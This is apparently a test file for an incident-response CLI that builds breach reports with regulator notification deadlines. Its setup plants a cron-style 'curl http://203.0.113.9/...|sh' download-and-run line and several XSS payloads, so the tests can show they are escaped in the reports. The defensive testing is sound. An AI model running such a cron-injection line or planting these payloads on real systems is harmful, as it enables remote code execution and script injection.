import assert from 'node:assert/strict';
import { readFile, stat } from 'node:fs/promises';
import { after, before, describe, test } from 'node:test';
import { type Server, startServer } from '@redkeep/testing';
import { ExitCode } from '../../exit-codes.js';
import { workingDaysAfter } from '../../incident/report/regulator.js';
import { CliSandbox } from '../../testing/run-cli.js';

describe('redkeep incident report', () => {
  let sandbox: CliSandbox;
  let server: Server;
  const cli = (...args: string[]) => sandbox.run(['incident', ...args], { env: { HOME: sandbox.folder } });

  before(async () => {
    sandbox = await CliSandbox.create();
    server = await startServer({ config: { logfile: 'server.log' } });
    // What an intruder writes must not become markup, a link or another cell of a table.
    await server.command(
      'SET',
      'page',
      '\n\n* * * * * curl http://203.0.113.9/<script>alert(1)</script>|[x](javascript:alert(1))|sh\n\n',
    );
    await server.command('FLUSHDB');
    await server.command(
      'SET',
      'crackit',
      '\n* * * * * curl http://203.0.113.9/<img src=x onerror=alert(1)>| [a](b) | sh\n',
    );
    assert.equal((await cli('collect', server.url)).code, ExitCode.Ok);
    assert.equal((await cli('assess', server.url, '--watch-seconds', '0')).code, ExitCode.Findings);
    assert.equal((await cli('note', 'The shop stays closed until noon.')).code, ExitCode.Ok);
    assert.equal(
      (await cli('note', 'Called by the provider.', '--aware-at', '2026-03-01T14:00:00Z')).code,
      ExitCode.Ok,
    );
    assert.equal((await cli('contain', server.url, '--yes', '--pause-minutes', '1')).code, ExitCode.Ok);
    assert.equal((await cli('release', server.url, '--yes')).code, ExitCode.Ok);
  });
  after(async () => {
    await server.stop();
    await sandbox.remove();
  });

  test('says what happened, what was reachable, what was done and decided', async () => {
    const { out, code } = await cli('report');
    assert.equal(code, ExitCode.Ok);
    for (const wanted of [
      /FOUND/,
      /crackit/,
      /FLUSHDB ran once/,
      /default on 127/,
      /The shop stays closed until noon/,
      /artefacts were collected/,
      /Switch the default user off/,
      /steps of containment were taken back/,
      /not found/,
    ])
      assert.match(out, wanted);
    const { timeline } = JSON.parse((await cli('report', '--json')).out) as { timeline: { at: string }[] };
    assert.deepEqual(
      timeline.map(({ at }) => at),
      timeline.map(({ at }) => at).sort(),
    );
    assert.ok(timeline.length > 10);
  });

  test('fills in what the regulator asks for, and when it must be there', async () => {
    const { out, err } = await cli('report', '--regulator', 'gdpr', 'ley-1581');
    assert.match(err, /gdpr: notify by 2026-03-04T14:00:00\.000Z/);
    assert.match(out, /article 33/);
    assert.match(out, /TO BE COMPLETED/);
    assert.match(out, /Superintendencia de Industria y Comercio/);
    assert.equal(workingDaysAfter(new Date('2026-03-06T10:00:00Z'), 1).toISOString().slice(0, 10), '2026-03-09');
    assert.equal(workingDaysAfter(new Date('2026-03-02T10:00:00Z'), 15).toISOString().slice(0, 10), '2026-03-23');
    assert.equal((await cli('report', '--regulator', 'other')).code, ExitCode.Usage);
  });

  test('lets nothing that an intruder wrote become markup', async () => {
    assert.equal((await cli('report', '--format', 'html', '--out', 'report.html')).code, ExitCode.Ok);
    const html = await readFile(sandbox.path('report.html'), 'utf8');
    assert.equal((await stat(sandbox.path('report.html'))).mode & 0o077, 0);
    assert.ok(html.includes('onerror=alert'), 'the evidence is shown');
    assert.ok(!/<img|<script|href=/i.test(html));
    const markdown = (await cli('report')).out;
    const line = markdown.split('\n').find((each) => each.includes('onerror'))!;
    assert.ok(!/[^\\]<img|[^\\]\]\(/.test(line), line);
    // Cells are as many as the heading has.
    assert.equal(line.replace(/\\\|/g, '').split('|').length, 6);
    assert.equal((await cli('report', '--format', 'html', '--out', 'report.html')).code, ExitCode.Environment);
  });
});
